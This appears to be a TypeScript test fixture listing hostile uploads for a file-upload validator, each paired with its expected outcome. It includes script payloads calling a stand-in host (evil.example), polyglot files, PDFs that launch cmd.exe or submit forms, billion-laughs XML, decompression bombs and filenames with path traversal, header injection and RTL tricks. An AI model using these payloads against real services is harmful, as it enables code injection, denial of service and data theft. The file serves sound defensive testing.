import { gzipSync } from 'node:zlib';
import { contentTypes, pdfOf, picture, samples, zipOf } from './files.ts';

/** A file that attacks, and what becomes of it. */
export interface HostileFile {
  what: string;
  name: string;
  content(): Promise<Buffer>;
  /** The message it is refused with, or the type it is stored as. */
  becomes: `validation.${string}` | `${string}/${string}`;
}

/** What runs an attack in a document: `attack` is watched for by the browser tests, and so is each request to another host. */
const SCRIPT = '<script>attack("ran");fetch("https://evil.example/ran")</script><img src="https://evil.example/seen">';
/** A document that attacks when a browser takes it for one. */
export const ATTACK_HTML = `<!doctype html><html><body onload="attack('load')">${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="attack('load')">${SCRIPT}</svg>`;
const OFFICE = 'application/vnd.openxmlformats-officedocument';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');

const WORD = { '[Content_Types].xml': contentTypes(`${OFFICE}.wordprocessingml.document`) };

/** Ten entities, each ten of the one before: a billion laughs when a reader of XML resolves them. */
const LAUGHS = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">${Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`,
).join('')}]><w>&a9;</w>`;

/** A PDF whose catalog does something when it is opened. */
const activePdf = (action: string) =>
  latin1(String(pdfOf('A harmless line')).replace('<</Type/Catalog', `<</Type/Catalog/OpenAction<<${action}>>`));

/** A GIF of many frames, large by their own word, of a few bytes each. */
function gifOf(frames: number, side: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(side, 0);
  size.writeUInt16LE(side, 2);
  const frame = Buffer.concat([latin1(',\0\0\0\0'), size, Buffer.from([0, 2, 2, 0x44, 1, 0])]);
  const head = [latin1('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255])];
  return Buffer.concat([...head, ...Array.from({ length: frames }, () => frame), latin1(';')]);
}

/** A film with a box of free text, which players skip. */
const filmWith = (text: string) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(text.length + 8);
  return Buffer.concat([samples.mp4, length, latin1(`free${text}`)]);
};

/** A JPEG with a comment right behind its first two bytes. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, latin1(comment), jpeg.subarray(2)]);
}

type Content = string | Buffer | (() => Buffer | Promise<Buffer>);

const row = (what: string, name: string, content: Content, becomes: HostileFile['becomes']): HostileFile => ({
  what,
  name,
  content: async () => Buffer.from(typeof content === 'function' ? await content() : content),
  becomes,
});

/** The bytes of several in one. */
const joined =
  (...parts: readonly Content[]) =>
  async () =>
    Buffer.concat(await Promise.all(parts.map((part) => row('', '', part, UNTYPED).content())));

const png = () => picture().png().toBuffer();
const jpeg = () => picture().jpeg().toBuffer();
const gif = () => picture().gif().toBuffer();
const pixelBomb = () => picture(8001, 8000).png({ compressionLevel: 9 }).toBuffer();

const UNTYPED = 'validation.file-type';
const IS_SVG = 'validation.file-svg';
const BROKEN = 'validation.file-broken';
const PIXELS = 'validation.file-pixels';
const DOCX = `${OFFICE}.wordprocessingml.document`;

/** Files that attack who opens them or who takes them, by hand, with what becomes of each. */
export const hostileFiles: readonly HostileFile[] = [
  row('SVG with a script', 'logo.svg', SVG, IS_SVG),
  row('SVG as an image of another kind', 'logo.png', SVG, IS_SVG),
  row('SVG with a document in it', 'a.svg', `<svg><foreignObject>${ATTACK_HTML}</foreignObject></svg>`, IS_SVG),
  row('SVG behind a declaration and a comment', 'a.svg', `<?xml version="1.0"?>\n<!-- a -->${SVG}`, IS_SVG),
  row('SVG behind a document type', 'a.svg', `<!DOCTYPE svg PUBLIC "a" "https://evil.example/a.dtd">${SVG}`, IS_SVG),
  row('SVG with a prefix', 'a.svg', '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="attack(1)"/>', IS_SVG),
  row('SVG in two bytes a letter', 'a.svg', utf16(SVG), UNTYPED),
  row('SVG, packed', 'a.svgz', gzipSync(SVG), UNTYPED),
  row('HTML as a PDF', 'plan.pdf', ATTACK_HTML, UNTYPED),
  row('HTML as an image', 'photo.png', ATTACK_HTML, UNTYPED),
  row('HTML as a text', 'a.txt', ATTACK_HTML, UNTYPED),
  row('HTML as an office file', 'a.docx', ATTACK_HTML, UNTYPED),
  row('HTML by its own name', 'a.html', ATTACK_HTML, UNTYPED),
  row('HTML in two bytes a letter', 'a.txt', utf16(ATTACK_HTML), UNTYPED),
  row('HTML behind spaces and a comment', 'a.csv', `\n\t <!-- a -->${ATTACK_HTML}`, UNTYPED),
  row('HTML behind a line of text', 'a.txt', `Dear reader\n${ATTACK_HTML}`, 'text/plain'),
  row('HTML behind a line of figures', 'a.csv', `1;2\n${ATTACK_HTML}`, 'text/csv'),
  row('HTML in seven bits a letter', 'a.txt', '+ADw-script+AD4-attack(1)+ADw-/script+AD4-', 'text/plain'),
  row('HTML in a web archive', 'a.mht', `MIME-Version: 1.0\nContent-Type: text/html\n\n${ATTACK_HTML}`, 'text/plain'),
  row('a script by its own name', 'a.js', 'attack(1)', 'text/plain'),
  row('a document with a style sheet that runs', 'a.xml', `<?xml-stylesheet href="a.xsl"?>${ATTACK_HTML}`, UNTYPED),
  row('GIF that is a script', 'a.gif', 'GIF89a/*\x01*/=1;attack(1)', BROKEN),
  row('GIF with a script behind it', 'a.gif', joined(gif, `*/=1;attack(1);${ATTACK_HTML}`), 'image/gif'),
  row('JPEG with HTML in a comment', 'a.jpg', async () => withComment(await jpeg(), ATTACK_HTML), 'image/jpeg'),
  row('PNG with HTML behind it', 'a.html', joined(png, ATTACK_HTML), 'image/png'),
  row('PDF with HTML behind it', 'a.html', joined(pdfOf('A line'), ATTACK_HTML), 'application/pdf'),
  row('HTML with a PDF behind it', 'a.pdf', joined(ATTACK_HTML, pdfOf('A line')), UNTYPED),
  row('archive with HTML before it', 'a.docx', joined(ATTACK_HTML, samples.docx), UNTYPED),
  row('office file with HTML behind it', 'a.html', joined(samples.docx, ATTACK_HTML), DOCX),
  row('PDF that runs a script', 'script.pdf', activePdf('/S/JavaScript/JS(app.alert\\(1\\))'), 'application/pdf'),
  row('PDF that starts a program', 'launch.pdf', activePdf('/S/Launch/F(cmd.exe)'), 'application/pdf'),
  row('PDF that opens an address', 'open.pdf', activePdf('/S/URI/URI(https://evil.example/a)'), 'application/pdf'),
  row('PDF that sends a form', 'send.pdf', activePdf('/S/SubmitForm/F(https://evil.example/a)'), 'application/pdf'),
  row(
    'PDF that counts more pages than it has',
    'pages.pdf',
    latin1(String(pdfOf('A line')).replace('/Count 1', '/Count 2147483647')),
    'application/pdf',
  ),
  row('film by the name of a document', 'a.html', filmWith(ATTACK_HTML), 'video/mp4'),
  row(
    'office file with a macro',
    'a.docx',
    () =>
      zipOf({
        '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled'),
        'word/vbaProject.bin': 'macro',
      }),
    UNTYPED,
  ),
  row(
    'office file that unpacks into very much',
    'a.docx',
    () =>
      zipOf({
        ...WORD,
        'word/document.xml': Buffer.alloc(100 * 1024 * 1024),
      }),
    DOCX,
  ),
  row(
    'office file whose list of types unpacks into very much',
    'a.docx',
    () =>
      zipOf({
        '[Content_Types].xml': Buffer.alloc(100 * 1024 * 1024, ' '),
      }),
    UNTYPED,
  ),
  row('office file of a billion laughs', 'a.docx', () => zipOf({ '[Content_Types].xml': LAUGHS }), UNTYPED),
  row('office file with laughs in its text', 'a.docx', () => zipOf({ ...WORD, 'word/document.xml': LAUGHS }), DOCX),
  row(
    'office file of deep elements',
    'a.docx',
    () => zipOf({ ...WORD, 'word/document.xml': '<w>'.repeat(500_000) }),
    DOCX,
  ),
  row('office file with a way out of its folder', 'a.docx', () => zipOf({ ...WORD, '../../../../tmp/a': 'a' }), DOCX),
  row(
    'archive of programs',
    'a.docx',
    () => zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': 'a' }),
    UNTYPED,
  ),
  row('program', 'plan.pdf', samples.exe, UNTYPED),
  row('image that decodes into very much', 'a.png', pixelBomb, PIXELS),
  row('animation that decodes into very much', 'a.gif', () => gifOf(50, 8000), PIXELS),
];

/** Names that attack, and how each is kept as the name of a PDF. */
export const hostileNames: readonly (readonly [sent: string, kept: string])[] = [
  ['../../etc/passwd', '..-..-etc-passwd.pdf'],
  ['..\\..\\x.pdf', '..-..-x.pdf'],
  ['/etc/passwd.pdf', '-etc-passwd.pdf'],
  ['..', '...pdf'],
  ['', 'file.pdf'],
  ['   ', 'file.pdf'],
  ['\u202Efdp.exe', 'fdp.exe.pdf'],
  ['plan\u202Efdp.exe', 'planfdp.exe.pdf'],
  ['plan\u2066\u200F.pdf', 'plan.pdf'],
  ['a\r\nSet-Cookie: x=y.pdf', 'a Set-Cookie: x=y.pdf'],
  ['a"; filename="b.html', 'a"; filename="b.html.pdf'],
  ['a\0.html', 'a .html.pdf'],
  ['a\u001B[31m\u0007.pdf', 'a [31m.pdf'],
  ['run.bat', 'run.bat.pdf'],
  ['page.html', 'page.html.pdf'],
  ['CON', 'CON.pdf'],
  ['plan.pdf:stream.exe', 'plan.pdf:stream.exe.pdf'],
  ['plan.exe. . .', 'plan.exe. . ..pdf'],
  ['PLAN.PDF', 'PLAN.PDF'],
  ['Årsplan "2026" ’;%?#.pdf', 'Årsplan "2026" ’;%?#.pdf'],
  [`${'æ'.repeat(300)}.pdf`, `${'æ'.repeat(196)}.pdf`],
  [`${'a'.repeat(300)}.html`, `${'a'.repeat(196)}.pdf`],
];
